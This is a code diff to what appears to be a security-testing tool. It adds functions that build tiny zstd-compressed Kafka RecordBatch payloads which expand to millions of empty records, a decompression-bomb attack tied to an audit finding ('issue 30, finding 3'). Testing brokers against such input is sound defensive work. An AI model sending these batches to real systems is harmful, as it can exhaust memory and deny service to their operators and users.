@@ -58,3 +58,52 @@ class MetadataProbe:
     def summary(self) -> str:
         return f"{self.answers} Metadata answers, worst wait {self.worst * 1000:.0f} ms" + (
             f", failed: {self.error!r}" if self.error else "")
+
+
+def _zigzag_varint(v: int) -> bytes:
+    v = (v << 1) ^ (v >> 63)
+    out = bytearray()
+    while v >= 0x80:
+        out.append((v & 0x7F) | 0x80)
+        v >>= 7
+    out.append(v)
+    return bytes(out)
+
+
+def tiny_records_batch(count: int, codec: int = 4) -> bytes:
+    """A RecordBatch v2 of `count` empty records (null key, empty value, offsetDelta counting up
+    as clients write it), compressed with `codec` (4: zstd): a few KB on the wire for millions of
+    records, the compressed batch of issue 30's finding 3."""
+    from protocol.records.compression import Codec, compress  # lazy: only the attacks build batches
+    from protocol.records.v2 import MAGIC, build_batch
+
+    parts = []
+    for i in range(count):
+        body = b"\x00\x00" + _zigzag_varint(i) + b"\x01\x00\x00"
+        parts.append(_zigzag_varint(len(body)) + body)
+    records = compress(Codec(codec), b"".join(parts), magic=MAGIC)
+    empty = build_batch([], base_timestamp=0, compression=0, last_offset_delta=count - 1)
+    return _with_records(empty, records, count, codec)
+
+
+def _with_records(empty: bytes, records: bytes, count: int, codec: int) -> bytes:
+    import struct  # lazy: see tiny_records_batch
+
+    from protocol.records.batch import crc32c
+
+    out = bytearray(empty) + records
+    struct.pack_into(">i", out, 8, len(out) - 12)  # batchLength
+    struct.pack_into(">h", out, 21, codec)  # attributes: the compression codec
+    struct.pack_into(">i", out, 57, count)  # recordsCount
+    struct.pack_into(">I", out, 17, crc32c(memoryview(out)[21:]))
+    return bytes(out)
+
+
+def constant_records_batch(count: int) -> bytes:
+    """A zstd RecordBatch v2 of `count` identical empty records (offsetDelta 0 in each): about
+    5 KB for 7.5 M records, just under the 64 MiB decompressed cap (issue 30, finding 3)."""
+    from protocol.records.compression import Codec, compress  # lazy: only the attacks build batches
+    from protocol.records.v2 import MAGIC, build_batch
+
+    records = compress(Codec.ZSTD, bytes.fromhex("0c000000010000") * count, magic=MAGIC)
+    return _with_records(build_batch([], base_timestamp=0, last_offset_delta=count - 1), records, count, 4)
